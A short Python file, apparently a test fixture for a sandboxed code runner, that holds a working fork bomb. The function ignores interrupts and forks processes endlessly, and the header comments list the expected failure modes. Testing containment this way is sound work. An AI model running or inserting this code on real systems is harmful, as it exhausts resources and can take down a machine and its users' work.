"""A fork bomb."""
# fails: double-check, triple-check
# ended: (processes|memory|processor|time)

# cell: double
import os
import signal

def double(x):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        try:
            os.fork()
        except OSError:
            pass
